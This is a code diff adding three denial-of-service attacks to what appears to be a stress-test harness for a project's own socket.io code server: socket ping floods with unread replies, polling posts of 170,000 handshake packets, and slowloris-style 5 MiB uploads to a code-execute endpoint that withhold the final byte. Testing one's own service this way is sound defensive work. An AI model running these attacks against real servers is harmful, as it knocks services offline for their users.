@@ -66,7 +66,10 @@ except OSError: time.sleep(1)
  * Attacks on sockets, where the limit on calls counts too. The others run without one, because filling lists and
  * pressing Run would meet it first.
  */
-const LIMITED = new Set(['a text, unread by 20 sockets', 'joining, unread by 20 sockets']);
+const LIMITED = new Set([
+  ...['a text, unread by 20 sockets', 'joining, unread by 20 sockets'],
+  ...['pings of a socket, answers unread', 'polls of 170,000 handshakes', 'bodies that arrive slowly'],
+]);
 
 /** Attacks by name; each goes on until the signal fires. */
 const ATTACKS: Record<string, (target: Target, signal: AbortSignal) => Promise<unknown>> = {
@@ -77,6 +80,9 @@ const ATTACKS: Record<string, (target: Target, signal: AbortSignal) => Promise<u
   'a long list, unread by 150 connections': leaveUnread,
   'a text, unread by 20 sockets': (target, signal) => askSockets(target, 'document_sync', signal),
   'joining, unread by 20 sockets': (target, signal) => askSockets(target, 'join_session', signal),
+  'pings of a socket, answers unread': pingUnread,
+  'polls of 170,000 handshakes': pollHandshakes,
+  'bodies that arrive slowly': sendSlowly,
   'searching a large history': searchHistory,
 };
 
@@ -210,6 +216,44 @@ async function askSockets({ server, token, session }: Target, event: string, sig
     await delay(2 * LOOK_MS);
   }
   for (const socket of sockets) socket.close();
+}
+
+/** Opens another socket whenever one is closed. */
+async function pingUnread({ server }: Target, signal: AbortSignal) {
+  while (!signal.aborted) {
+    const socket = await openSilentSocket(server.origin, {});
+    socket.stopReading();
+    while (!signal.aborted && !socket.hasEnded) {
+      socket.pingWebSocket(10_000);
+      await delay(1);
+    }
+    socket.close();
+  }
+}
+
+async function pollHandshakes({ server }: Target, signal: AbortSignal) {
+  const poll = `${server.origin}/socket.io/?EIO=4&transport=polling`;
+  const body = Array<string>(170_000).fill('40{}').join('\x1e');
+  while (!signal.aborted) {
+    const [, sid] = /"sid":"([^"]+)"/.exec(await (await fetch(poll)).text()) ?? [];
+    await fetch(`${poll}&sid=${sid}`, { method: 'POST', body }).catch(() => null);
+  }
+}
+
+/** Sends all of long programs but their last byte. */
+async function sendSlowly({ server }: Target, signal: AbortSignal) {
+  const { hostname, port } = new URL(server.origin);
+  const body = Buffer.alloc(5 * MIB, 'x');
+  const headers = `Host: here\r\nContent-Type: application/json\r\nContent-Length: ${body.length + 1}`;
+  const sockets = Array.from({ length: 150 }, () => {
+    const socket = connect(Number(port), hostname);
+    socket.on('error', () => undefined);
+    socket.write(`POST ${API_BASE}/code/execute HTTP/1.1\r\n${headers}\r\n\r\n`);
+    socket.write(body);
+    return socket;
+  });
+  await aborted(signal);
+  for (const socket of sockets) socket.destroy();
 }
 
 async function searchHistory({ server, token }: Target, signal: AbortSignal) {
